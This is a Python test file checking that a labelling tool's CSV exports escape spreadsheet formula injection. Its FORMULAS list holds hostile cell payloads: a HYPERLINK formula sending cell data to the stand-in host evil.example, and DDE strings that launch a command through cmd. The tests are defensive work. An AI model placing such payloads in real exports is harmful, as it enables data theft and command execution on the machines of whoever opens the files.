"""CSV injection: no cell of an export begins a formula, and every writer of CSV sees to it."""

from __future__ import annotations

import csv
import gzip
import io
import json
from pathlib import Path

import pytest
from click.testing import CliRunner

from backend.exporting import _csv
from backend.spreadsheets import cell
from labelgate import main

FORMULAS = [
    "=1+2",
    '=HYPERLINK("http://evil.example/?"&A1)',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)",
    "\t=1+2",
    "\r=1+2",
    "\n=1+2",
    "＝1+2",  # noqa: RUF001 - full-width
    '=1+2";=1+2',
]


@pytest.mark.parametrize("text", FORMULAS)
def test_text_that_would_be_calculated_is_text(text: str) -> None:
    assert cell(text) == f"'{text}"


@pytest.mark.parametrize("value", ["-0.5", "+1", "1e-5", "plain", "a=1", "'=1", -3, 0.5, True])
def test_other_values_stay(value: object) -> None:
    assert cell(value) == value


def cells(text: str) -> list[str]:
    return [each for row in csv.reader(io.StringIO(text, newline="")) for each in row]


def assert_harmless(text: str) -> None:
    found = cells(text)
    assert any(each.startswith("'") for each in found), "nothing hostile is in it"
    assert [each for each in found if cell(each) != each] == []


def test_the_export_of_final_labels() -> None:
    text = io.StringIO(newline="")
    write = _csv(text, ("task_id", "data", "label", "tier", "model_version"))
    for each in FORMULAS:
        write({"task_id": 1, "data": {each: each}, "label": each, "tier": each, "model_version": 1})
    assert_harmless(text.getvalue())


def test_the_labels_of_a_consensus(tmp_path: Path) -> None:
    votes = tmp_path / "votes.csv"
    with votes.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file)
        writer.writerow(("item", "worker", "label"))
        writer.writerows((f"{each} {n}", w, each) for n, each in enumerate(FORMULAS) for w in "abc")
    out = tmp_path / "labels.csv"
    result = CliRunner().invoke(main, ["consensus", str(votes), "--out", str(out)])
    assert result.exit_code == 0, result.output
    assert_harmless(out.read_bytes().decode())


def test_the_verdicts_of_judges(tmp_path: Path) -> None:
    pairs = tmp_path / "pairs.jsonl"
    texts = {"prompt": "p", "response_a": "x", "response_b": "y", "judgments": {"ann": "a"}}
    lines = (json.dumps({"id": each.strip(), **texts}) for each in FORMULAS[:5])
    pairs.write_text("\n".join(lines), encoding="utf-8")
    out = tmp_path / "verdicts.csv.gz"
    result = CliRunner().invoke(
        main, ["preferences", "report", str(pairs), "--consensus", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert_harmless(gzip.decompress(out.read_bytes()).decode())


def test_whoever_writes_csv_sees_to_it() -> None:
    """The file of decisions is in tests/backend/test_web_decisions.py."""
    root = Path(__file__).parents[2]
    writers = [
        file
        for folder in ("backend", "connectors", "policies", "audit_jobs")
        for file in (root / folder).rglob("*.py")
        if any(each in file.read_text("utf-8") for each in ("csv.writer(", "csv.DictWriter("))
    ]
    assert writers == [root / "backend" / "spreadsheets.py"], "write lines by csv_line"
